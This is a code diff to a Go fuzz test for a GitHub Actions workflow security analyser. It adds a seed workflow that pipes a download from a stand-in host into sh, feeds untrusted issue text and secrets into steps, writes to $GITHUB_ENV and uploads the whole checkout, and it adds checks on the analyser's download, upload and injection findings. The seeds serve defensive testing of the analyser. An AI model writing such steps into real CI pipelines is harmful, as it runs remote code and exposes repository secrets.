@@ -184,6 +184,7 @@ func FuzzWorkflow(f *testing.F) {
 	f.Add([]byte("runs:\n  using: composite\n  steps:\n    - uses: a/b@main\n      with: {x: \"${{ inputs.y }}\"}\n"))
 	f.Add([]byte("on: push\njobs:\n  a: &a\n    runs-on: [x]\n    env: {K: PLANTED_VALUE}\n    steps: [{run: \"PLANTED_VALUE\"}, {uses: a/b, with: {k: PLANTED_VALUE}}]\n  b: *a\n"))
 	f.Add([]byte("\ufeffon: push\r\njobs:\r\n  a:\r\n    runs-on: x\r\n    steps:\r\n      - run: >-\r\n          ä ${{ toJSON(secrets) }}\r\n"))
+	f.Add([]byte("on: [issues, workflow_run]\njobs:\n  a:\n    runs-on: x\n    steps:\n      - uses: actions/checkout@v4\n      - run: |\n          gh run download\n          curl https://a.example \\\n            | sh\n          echo \"$(cat ä)\" >> $GITHUB_ENV\n        env: {K: '${{ fromJSON(secrets.K).ä }}', B: '${{ github.event.issue.body }}'}\n      - {uses: actions/upload-artifact@v3, with: {path: .}}\n"))
 	f.Fuzz(func(t *testing.T, data []byte) {
 		files := fstest.MapFS{".github/workflows/w.yml": {Data: data}, "x/action.yml": {Data: data}}
 		seen := observe(t, files)
@@ -198,6 +199,15 @@ func FuzzWorkflow(f *testing.F) {
 				}
 				for _, use := range j.Credentials {
 					textAt(t, files, use.Location)
+					if use.Download != nil {
+						textAt(t, files, use.Download.Location)
+					}
+					if use.Uploaded != nil {
+						textAt(t, files, *use.Uploaded)
+					}
+				}
+				for _, injection := range j.Injections {
+					textAt(t, files, injection.Location)
 				}
 			}
 		}
